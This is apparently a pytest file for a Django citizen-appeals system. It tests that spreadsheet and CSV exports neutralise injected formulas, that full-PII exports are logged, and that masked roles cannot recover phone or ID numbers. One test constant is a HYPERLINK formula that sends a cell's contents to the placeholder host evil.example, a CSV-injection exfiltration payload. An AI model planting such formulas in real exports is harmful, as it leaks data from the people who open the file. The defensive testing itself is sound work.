"""Exports neutralise formulas (CSV injection) and log exports of full personal data."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from minyi.audit.models import SecurityEvent, SecurityKind
from minyi.cockpit import exports
from minyi.conftest import intake

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&H2,"点击查看")'


def test_xlsx_never_writes_a_formula_and_keeps_numbers() -> None:
    rows = [[EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "电梯\x0b故障", -5, 3.5, None, "普通文本"]]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx("诉求清单", ["a"] * 11, rows))).active
    assert sheet is not None
    cells = [sheet.cell(row=2, column=i) for i in range(1, 12)]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells[:6]] == ["'" + EVIL, "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert cells[6].value == "电梯故障"  # a control character XLSX cannot hold, dropped instead of a 500
    assert (cells[7].value, cells[7].data_type) == (-5, "n")
    assert cells[8].value == 3.5
    assert cells[9].value is None
    assert cells[10].value == "普通文本"


def test_csv_prefixes_formulas_and_keeps_numbers() -> None:
    text = exports.to_csv(["标题", "数"], [[EVIL, -5], ["=1+1", 2], ["正常", 0]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + EVIL, "-5"]
    assert rows[2] == ["'=1+1", "2"]
    assert rows[3] == ["正常", "0"]


def _client(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_appeal_export_of_a_formula_title_through_the_page(people: dict[str, Any]) -> None:
    intake(title=EVIL, by=people["operator"])
    response = _client(people["dispatcher"]).get("/cockpit/export/appeals?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    title = sheet.cell(row=2, column=6)
    assert title.data_type == "s" and title.value == "'" + EVIL
    text = _client(people["dispatcher"]).get("/cockpit/export/appeals?format=csv").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][5] == "'" + EVIL


def test_export_with_full_personal_data_is_in_the_security_log(people: dict[str, Any]) -> None:
    intake(by=people["operator"])
    intake(title="桂园路井盖缺失", by=people["operator"])
    _client(people["dispatcher"]).get("/cockpit/export/appeals?format=csv&kind=complaint")  # masked by default
    assert not SecurityEvent.objects.filter(kind=SecurityKind.EXPORT_PII).exists()
    _client(people["dispatcher"]).get("/cockpit/export/appeals?format=csv&kind=complaint&full=1")
    [event] = SecurityEvent.objects.filter(kind=SecurityKind.EXPORT_PII)
    assert event.actor == people["dispatcher"]
    assert event.details["rows"] == 2
    assert event.details["filters"] == {"kind": "complaint"}
    assert event.details["format"] == "csv"
    # A leader sees masked phones and names even when asking for full data: nothing personal leaves, nothing to log.
    _client(people["leader"]).get("/cockpit/export/appeals?format=xlsx&full=1")
    assert SecurityEvent.objects.filter(kind=SecurityKind.EXPORT_PII).count() == 1


def test_leaders_exports_mask_numbers_in_titles_and_cannot_search_by_phone(people: dict[str, Any]) -> None:
    """Found by the independent probe: titles carried ID and phone numbers; a phone search confirmed a caller's appeals."""
    intake(title="路灯不亮 电话13611112222 身份证32050219800101123X", by=people["operator"])
    leader = _client(people["leader"])
    body = leader.get("/cockpit/export/appeals?format=csv").content.decode("utf-8-sig")
    assert "13611112222" not in body and "32050219800101123X" not in body and "路灯不亮" in body
    assert "路灯不亮" not in leader.get("/cockpit/export/appeals?format=csv&q=13812345678").content.decode("utf-8-sig")
    assert "路灯不亮" not in leader.get("/appeals/?q=13812345678").content.decode()
    assert "路灯不亮" in _client(people["dispatcher"]).get("/appeals/?q=13812345678").content.decode()


def test_masked_roles_cannot_confirm_digits_by_searching_titles(people: dict[str, Any]) -> None:
    """Found by the independent re-probe: a leader found the appeal titled with an ID number by guessing its prefix."""
    intake(title="身份证440101199203158831办理问题", by=people["operator"])
    leader = _client(people["leader"])
    assert "办理问题" not in leader.get("/appeals/?q=4401011992").content.decode()
    assert "办理问题" not in leader.get("/cockpit/export/appeals?format=csv&q=4401011992").content.decode("utf-8-sig")
    assert "办理问题" in leader.get("/appeals/?q=办理问题").content.decode()  # words still search
    assert "办理问题" in _client(people["operator"]).get("/appeals/?q=4401011992").content.decode()


def test_list_exports_mask_names_and_doors_unless_full_and_logged(people: dict[str, Any]) -> None:
    intake(by=people["operator"], submitter_name="陈国华", address="明湖路188号3幢402室")
    body = _client(people["operator"]).get("/cockpit/export/appeals?format=csv").content.decode("utf-8-sig")
    assert "陈国华" not in body and "188号" not in body and "陈**" in body
    assert not SecurityEvent.objects.filter(kind=SecurityKind.EXPORT_PII).exists()
    full = _client(people["operator"]).get("/cockpit/export/appeals?format=csv&full=1").content.decode("utf-8-sig")
    assert "陈国华" in full and "明湖路188号3幢402室" in full
    assert SecurityEvent.objects.filter(kind=SecurityKind.EXPORT_PII).count() == 1
